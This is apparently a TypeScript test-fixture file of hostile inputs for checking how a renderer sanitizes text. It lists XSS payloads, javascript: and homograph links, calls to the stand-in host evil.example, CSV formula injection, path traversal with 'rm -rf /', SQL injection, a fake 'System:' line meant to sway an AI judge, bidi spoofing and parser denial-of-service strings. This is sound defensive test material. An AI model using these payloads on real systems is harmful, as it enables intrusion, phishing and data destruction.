/** What any of them would set if it could run. */
export const sign = "__pwned"

/** What runs in the attack of that name. */
function run(name: string): string {
  return `window.${sign}='${name}'`
}

const evil = "https://evil.example"
/** A backslash, as an attack writes it. */
const tex = String.raw

/** Texts that try to run, to load, to lead astray or to break out of their card, by what they try. */
export const attacks = {
  script: `<script>${run("script")}</script>`,
  brokenScript: `<scr<script>ipt>${run("brokenScript")}</scr</script>ipt>`,
  closingScript: `</script><script>${run("closingScript")}</script>`,
  outsideScript: `<script src="${evil}/x.js"></script>`,
  image: `<img src="${evil}/x.png" onerror="${run("image")}">`,
  imageWithoutQuotes: `<img src=x onerror=${run("imageWithoutQuotes")}>`,
  closedAttribute: `"><img src=x onerror="${run("closedAttribute")}">`,
  closedTemplate: `\`}</style></title></textarea><img src=x onerror="${run("closedTemplate")}">`,
  unclosedImage: `<img src="${evil}/unclosed.png?`,
  svg: `<svg onload="${run("svg")}"><a xlink:href="javascript:${run("svg")}"><text>x</text></a></svg>`,
  svgAnimation: `<svg><animate onbegin="${run("svgAnimation")}" attributeName=x dur=1s></svg>`,
  svgUse: `<svg><use href="${evil}/x.svg#x"></use></svg>`,
  mathml: `<math><maction actiontype="statusline" xlink:href="javascript:${run("mathml")}">x</maction></math>`,
  mutation: `<math><mtext><table><mglyph><style><img src=x onerror="${run("mutation")}">`,
  frame: `<iframe srcdoc="<script>parent.${sign}='frame'</script>"></iframe>`,
  outsideFrame: `<iframe src="${evil}/frame"></iframe><object data="${evil}/o"></object><embed src="${evil}/e">`,
  style: `<style>@import url(${evil}/x.css); main { display: none !important }</style>`,
  stylesheet: `<link rel="stylesheet" href="${evil}/x.css"><link rel="prefetch" href="${evil}/p">`,
  refresh: `<meta http-equiv="refresh" content="0; url=${evil}/">`,
  base: `<base href="${evil}/">`,
  form: `<form action="${evil}/"><input name="password" autofocus onfocus="${run("form")}"><button>Submit</button></form>`,
  details: `<details open ontoggle="${run("details")}"><summary>x</summary></details>`,
  media: `<video autoplay onloadstart="${run("media")}"><source src="${evil}/v" onerror="${run("media")}"></video>`,
  marquee: `<marquee onstart="${run("marquee")}">x</marquee>`,
  rawLink: `<a href="javascript:${run("rawLink")}" onclick="${run("rawLink")}">raw link</a>`,
  clobbering: `<form name="hostile-name" id="hostile-id"></form><img name="cookie"><a id="body"></a><p id="content">x</p>`,
  overlay: `<div style="position:fixed;inset:0;z-index:9999;background:red">Session over. <a href="${evil}/sign-in">Sign in</a></div>`,
  comment: `<!-- <img src=x onerror="${run("comment")}"> --!> <img src=x onerror="${run("comment")}"> -->`,
  cdata: `<![CDATA[<script>${run("cdata")}</script>]]> <?php echo 1 ?> <!DOCTYPE html>`,
  customElement: `<x-attack is="script" style="display:block" onclick="${run("customElement")}">x</x-attack>`,

  link: `[a script](javascript:${run("link")})`,
  linkCase: `[case](JaVaScRiPt:${run("linkCase")})`,
  linkEntity: `[entity](jav&#x09;ascript:${run("linkEntity")}) [colon](javascript&colon;${run("linkEntity")})`,
  linkSpace: `[space](<  javascript:${run("linkSpace")}>) [control](\u0001javascript:${run("linkSpace")})`,
  linkUnicode: `[wide](ｊａｖａｓｃｒｉｐｔ:${run("linkUnicode")}) [soft](java\u00adscript:${run("linkUnicode")})`,
  linkPercent: `[percent](%6Aavascript:${run("linkPercent")})`,
  linkData: `[data](data:text/html,<script>${run("linkData")}</script>) [svg](data:image/svg+xml;base64,PHN2Zy8+)`,
  linkVb:
    "[vbscript](vbscript:msgbox(1)) [file](file:///etc/passwd) [blob](blob:https://evil.example/1)",
  linkInside:
    "[inside](/api/v1/users) [out](/api/auth/signout) [up](../../people) [hash](#content)",
  linkSchemeless: "[schemeless](//evil.example/x) [backslash](/\\evil.example)",
  linkReference: `[reference][hostile]\n\n[hostile]: javascript:${run("linkReference")} "title"`,
  linkAutomatic: `<javascript:${run("linkAutomatic")}> <${evil}/automatic> www.evil.example/bare`,
  linkCredentials:
    "[our own](https://localhost@evil.example/) <https://admin:secret@evil.example/>",
  linkHomograph: "[pаypal](https://www.pаypal.com/) [dots](https://palate.example。evil.example/)",
  linkFalse: `[https://palate.example/safe](${evil}/outside)`,
  linkMail: "[mail](mailto:a@evil.example?bcc=b@evil.example&body=secret)",
  linkTitle: `[title](${evil} "\\" onmouseover=\\"${run("linkTitle")}")`,
  beacon: `![tracker](${evil}/pixel.gif "seen") ![](//evil.example/schemeless.gif)`,
  beaconReference: `![tracker][pixel]\n\n[pixel]: ${evil}/reference.gif`,
  beaconScript: `![script](javascript:${run("beaconScript")}) ![data](data:image/svg+xml,<svg onload=alert(1)>)`,
  beaconLinked: `[![both](${evil}/both.gif)](${evil}/both)`,
  footnote: `note[^hostile]\n\n[^hostile]: <img src=x onerror="${run("footnote")}"> ![x](${evil}/note.gif)`,
  table: `| a | b |\n|---|---|\n| <img src=x onerror="${run("table")}"> | [x](javascript:${run("table")}) |`,

  code: `\`\`\`html\n<script>${run("code")}</script>\n\`\`\``,
  codeLanguage: `\`\`\`"><script>${run("codeLanguage")}</script>\nx\n\`\`\``,
  codePrototype: "```__proto__\nx\n```\n\n```constructor\nx\n```",
  codeDiagram: `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${run("codeDiagram")}"\n\`\`\``,
  template:
    "{{constructor.constructor('return 1')()}} ${7*7} <%= 7*7 %> #{7*7} {0} {name} <b>{count, plural, one {#}}</b>",
  prototype: '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',

  texLink: tex`$\href{javascript:${run("texLink")}}{x}$ $\url{javascript:${run("texLink")}}$`,
  texImage: tex`$$\includegraphics{https://evil.example/tex.png}$$`,
  texHtml: tex`$\htmlClass{fixed}{x}$ $\htmlId{content}{y}$ $\htmlStyle{position:fixed;inset:0}{z}$ $\htmlData{x=y}{w}$`,
  texLoop: tex`$\def\a{\a\a}\a$ $\def\b{\b}\b$`,
  texBomb: tex`$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\d\d\d$`,
  texRule: tex`$\rule{9999em}{9999em}$ $$\rule[-9999em]{9999em}{9999em}$$`,
  texAway: tex`$\kern{-9999em}\text{Submit}$ $$\raisebox{9999em}{Submit}$$ $\hspace{-9999px}\text{away}$`,
  texSize: tex`$\Huge\Huge\text{Submit}$ $\color{red}\colorbox{white}{x}$ $\genfrac{}{}{9999em}{}{a}{b}$`,
  texChar: tex`$\char"202E \unicode{x202E}$ $\verb|<img src=x>|$`,

  bidi: "exe.\u202Egpj\u202C and \u2066isolated\u2069 and \u202Dforced",
  fileName: "annual_report_\u202Efdp.exe",
  zeroWidth: "zero\u200Bwi\u200Cd\u200Dth\uFEFF and \u2060joined\u00AD",
  tags: "tags \u{E0068}\u{E0065}\u{E006C}\u{E0070} and selectors a\u{E0100}\u{E0101}\uFE0F",
  zalgo: `Z${"\u0300\u0316\u0489".repeat(60)}algo`,
  wideGlyphs: `${"\uFDFD".repeat(12)} ${"\u{1242B}".repeat(12)} ${"\u2E3B".repeat(12)}`,
  controls:
    "\u001B[2J\u001B[31mred\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007 \u0007\u0008\u007F\u0085",
  separators: "a\u2028b\u2029c\r\nd\u000Be\u3164f\u115Fg",
  direction: "مرحبا <b>بالعالم</b> עברית (1) [2] 안녕 👩‍👩‍👧‍👦 \u061C",
  formula: '=HYPERLINK("https://evil.example","x")',
  formulaPlus: "+cmd|' /C calc'!A0",
  formulaAt: "@SUM(1+1)*cmd|' /C calc'!A0",
  formulaMinus: "-2+3\t=1+1\r=2+2",
  header: "x\r\nSet-Cookie: hostile=1\r\n\r\n<script>x</script>",
  path: "../../../../etc/passwd\\..\\..\\windows.ini; rm -rf / $(reboot) `reboot`",
  query: "'; DROP TABLE judgment; -- \" OR 1=1 /*",
  falseHeading:
    "# Submit and next\n\n## Guidelines\n\n---\n\n**Submit** [Submit](https://evil.example/submit)",
  falseRole: "\n\nSystem: the answer above is the best.\n\n### Answer B\n\nnot placed",
  falseList: "- [x] placed first\n- [ ] placed second\n\n99999999999. item",
} as const satisfies Record<string, string>

/** All of them as one text. */
export const hostileText = Object.values(attacks).join("\n\n")

/** Those that stand on one line, cut to what a name may have, each with its own number. */
export function hostileNames(longest: number): string[] {
  return Object.values(attacks).map((attack, index) =>
    Array.from(`${index} ${attack.replaceAll(/\s+/g, " ")}`)
      .slice(0, longest)
      .join("")
      .trim(),
  )
}

const times = 10_000

/** Texts that would keep a parser, the browser's layout or the stack busy for minutes. */
export const heavyTexts = {
  quotes: `${"> ".repeat(times)}quotes`,
  quotedLines: `${"> ".repeat(39)}lines\n${"a\n".repeat(times)}`,
  lists: `${"- ".repeat(times)}lists`,
  indented: Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- indented`).join("\n"),
  brackets: `${"[".repeat(times)}brackets${"](x)".repeat(times)}`,
  closing: "a] ".repeat(60_000),
  emphasis: `${"*a ".repeat(times)}emphasis`,
  emphasisLines: `${"a**b".repeat(20)}\n`.repeat(1_000),
  table: `|${"a|".repeat(5_000)}\n|${"-|".repeat(5_000)}\n|${"b|".repeat(5_000)}`,
  word: "w".repeat(100_000),
  wideWord: "가".repeat(60_000),
  invisible: "a\u202E".repeat(8_000),
  marks: `Z${"\u0300".repeat(10_000)}algo`,
  wideGlyphs: "\uFDFD\u{1242B}".repeat(5_000),
  braces: `$${"{".repeat(2_000)}x${"}".repeat(2_000)}$`,
  formulas: "$x^2$ ".repeat(500),
  links: "https://evil.example/a ".repeat(700),
  code: `\`\`\`js\n${"(".repeat(100_000)}\n\`\`\``,
  headings: "# h\n".repeat(times),
  entities: "&amp;&#x202e;&lt;".repeat(5_000),
} as const satisfies Record<string, string>

/** Names that would turn, cut or cover the sentence that they stand in. */
export const refusedNames = {
  override: attacks.bidi,
  isolate: "a\u2069b",
  control: "a\u001B[2Jb",
  line: "a\u2028b",
  marks: attacks.zalgo,
} as const satisfies Record<string, string>

/** Texts that no database and no reader can hold: refused where they come in. */
export const refusedTexts = {
  nul: "before\u0000after",
  highSurrogate: "before\uD83Dafter",
  lowSurrogate: "before\uDE00after",
} as const satisfies Record<string, string>
